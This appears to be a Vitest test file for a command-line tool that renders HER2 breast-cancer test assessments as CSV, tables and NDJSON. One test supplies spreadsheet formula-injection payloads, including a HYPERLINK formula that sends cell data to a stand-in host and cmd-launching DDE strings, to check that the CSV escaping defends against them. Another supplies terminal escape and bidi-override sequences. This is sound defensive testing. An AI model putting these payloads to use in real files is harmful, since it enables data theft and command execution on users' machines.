// @vitest-environment node
/** Output formats and filters on hand-written assessments (with flags, which the fixtures cannot rely on). */
import { describe, expect, it } from "vitest";
import type { Assessment, Flag, FlagCode } from "../../src/domain";
import { FLAG_CODES, matchesFilters } from "../../src/cli/filters";
import { outputFormat } from "../../src/cli/formats";
import { Summary } from "../../src/cli/summary";
import { parseCsv } from "./helpers";

function flag(code: FlagCode): Flag {
  return { code, severity: "action", message: `${code}, "quoted"`, evidence: ["Observation/o1"] };
}

function assessment(patient: string, overrides: Partial<Assessment> = {}): Assessment {
  return {
    patient,
    asOf: "2026-11-25",
    guideline: "ASCO/CAP 2018, 2023 update",
    rulesVersion: "1",
    status: "equivocal",
    category: "unknown",
    setting: "early",
    statusReason: 'IHC 2+, "equivocal", no ISH yet',
    flags: [],
    recommendation: { text: "Order reflex ISH,\nsame specimen.", citations: [] },
    evidence: [],
    unreadable: [],
    dataGaps: [],
    ...overrides,
  };
}

const a = assessment("Patient/a", {
  flags: [flag("reflex-ish-missing"), flag("reflex-ish-missing"), flag("result-pending")],
  basis: { date: "2026-03-02", specimen: "Specimen/s1", specimenLabel: "S-26-1", evidence: [] },
});
const b = assessment("Patient/b", { status: "positive", category: "her2-positive", setting: "metastatic" });

function render(name: "ndjson" | "csv" | "table", list: Assessment[]): string {
  const format = outputFormat(name);
  return format.begin() + list.map((x) => format.patient(x)).join("") + format.end();
}

describe("not-checked flags (issue 18, point 4)", () => {
  const gapped = assessment("Patient/g", {
    flags: [{ ...flag("metastatic-retest-missing"), severity: "warning", state: "not-checked" }],
  });

  it("table: marked (not checked), never as a raised flag", () => {
    expect(render("table", [gapped])).toMatch(/metastatic-retest-missing \(not checked\)/);
  });

  it("csv: 0 in the flag's column, named in not_checked", () => {
    const [row] = parseCsv(render("csv", [gapped]));
    expect(row).toMatchObject({ "metastatic-retest-missing": "0", not_checked: "metastatic-retest-missing" });
  });

  it("summary: not counted as a raised flag", () => {
    const summary = new Summary();
    summary.add(gapped, true);
    expect(summary.line(1, 0, false)).toContain("flags none");
  });
});

describe("formats", () => {
  it("csv: quoted fields survive commas, quotes and newlines; one 0/1 column per flag code", () => {
    const rows = parseCsv(render("csv", [a, b]));
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      patient: "Patient/a",
      status: "equivocal",
      basis_date: "2026-03-02",
      basis_specimen: "S-26-1",
      status_reason: 'IHC 2+, "equivocal", no ISH yet',
      recommendation: "Order reflex ISH,\nsame specimen.",
      "reflex-ish-missing": "1",
      "result-pending": "1",
      "recount-needed": "0",
    });
    expect(Object.keys(rows[0] ?? {})).toEqual(expect.arrayContaining([...FLAG_CODES]));
    expect(rows[1]).toMatchObject({ patient: "Patient/b", setting: "metastatic", "reflex-ish-missing": "0" });
  });

  it("csv: cells a spreadsheet would run as a formula get a leading ' (OWASP), the rest of the value intact", () => {
    const crafted = assessment('=HYPERLINK("http://evil.example/?x="&A1,"open")', {
      statusReason: "@SUM(1+1)*cmd|' /C calc'!A0",
      recommendation: { text: "\tcmd /c calc", citations: [] },
      basis: {
        date: "2026-03-02",
        specimen: "Specimen/s1",
        specimenLabel: "-2+3+cmd|' /C calc'!A0",
        evidence: [],
      },
    });
    const plus = assessment("+1+1", {
      statusReason: "\r=1+1",
      recommendation: { text: "ok", citations: [] },
    });
    const [first, second] = parseCsv(render("csv", [crafted, plus]));
    expect(first).toMatchObject({
      patient: `'=HYPERLINK("http://evil.example/?x="&A1,"open")`,
      status_reason: "'@SUM(1+1)*cmd|' /C calc'!A0",
      recommendation: "'\tcmd /c calc",
      basis_specimen: "'-2+3+cmd|' /C calc'!A0",
      results: "0",
      "reflex-ish-missing": "0",
    });
    expect(second).toMatchObject({ patient: "'+1+1", status_reason: "'\r=1+1", recommendation: "ok" });
  });

  it("table: control characters and bidi overrides are stripped from ids and text", () => {
    const lines = render("table", [
      assessment("Patient/\x1b[31mred\x1b[0m\x07\x7f\u009b2J"),
      assessment("Patient/\u202eevil\u202c\u2066x\u2069\nnext\ttab\r"),
      b,
    ])
      .trimEnd()
      .split("\n");
    expect(lines).toHaveLength(4);
    expect(lines[1]).toMatch(/^Patient\/\[31mred\[0m2J\s+equivocal\s+unknown\s+early\s+-$/);
    expect(lines[2]).toMatch(/^Patient\/evilxnexttab\s+equivocal\s+unknown\s+early\s+-$/);
    expect(lines[0]?.indexOf("STATUS")).toBe("Patient/[31mred[0m2J".length + 2);
  });

  it("table: flags listed once each, '-' when none", () => {
    const lines = render("table", [a, b]).trimEnd().split("\n");
    expect(lines[1]).toMatch(
      /^Patient\/a\s+equivocal\s+unknown\s+early\s+reflex-ish-missing, result-pending$/,
    );
    expect(lines[2]).toMatch(/^Patient\/b\s+positive\s+her2-positive\s+metastatic\s+-$/);
  });

  it("table: widths fit the first 1,000 patients, which are held back; later rows stream at once", () => {
    const format = outputFormat("table");
    expect(format.begin()).toBe("");
    const outputs = Array.from({ length: 1001 }, (_, i) =>
      format.patient(assessment(`Patient/${"x".repeat(i % 40)}${i}`)),
    );
    expect(outputs.slice(0, 999).every((o) => o === "")).toBe(true);
    const first = (outputs[999] ?? "").split("\n");
    expect(first).toHaveLength(1002); // header + 1,000 rows + trailing ""
    const statusColumn = (first[0] ?? "").indexOf("STATUS");
    expect(statusColumn).toBe("Patient/".length + 39 + 3 + 2);
    expect(outputs[1000]).toMatch(/^Patient\/1000\s+equivocal/);
    expect(format.end()).toBe("");
  });

  it("ndjson: the assessment object, one line each", () => {
    const lines = render("ndjson", [a, b]).split("\n");
    expect(lines).toHaveLength(3);
    expect(JSON.parse(lines[0] ?? "")).toEqual(a);
    expect(lines[2]).toBe("");
  });
});

describe("filters", () => {
  it("--flag matches any listed flag; --status any listed status; both must hold", () => {
    expect(matchesFilters(a, { flags: ["result-pending"], statuses: [] })).toBe(true);
    expect(matchesFilters(b, { flags: ["result-pending"], statuses: [] })).toBe(false);
    expect(matchesFilters(b, { flags: [], statuses: ["negative", "positive"] })).toBe(true);
    expect(matchesFilters(a, { flags: ["reflex-ish-missing"], statuses: ["positive"] })).toBe(false);
    expect(matchesFilters(a, { flags: [], statuses: [] })).toBe(true);
  });
});

describe("summary", () => {
  it("counts patients, shown, results, unreadable, statuses and flags (a repeated flag once per patient)", () => {
    const summary = new Summary();
    summary.add(
      {
        ...a,
        evidence: [{ resource: "Observation/o1", method: "ihc", value: "2+", status: "final", used: true }],
      },
      true,
    );
    summary.add({ ...b, unreadable: [{ resource: "Observation/x", reason: "no value" }] }, false);
    expect(summary.line(42, 1, true)).toBe(
      "her2 review: 2 patients (1 shown), 42 resources read, 1 HER2 result, 1 unreadable; " +
        "status positive 1, negative 0, equivocal 1, indeterminate 0, no-result 0; " +
        "flags reflex-ish-missing 1, result-pending 1; 0 skipped; 1 warning",
    );
  });
});
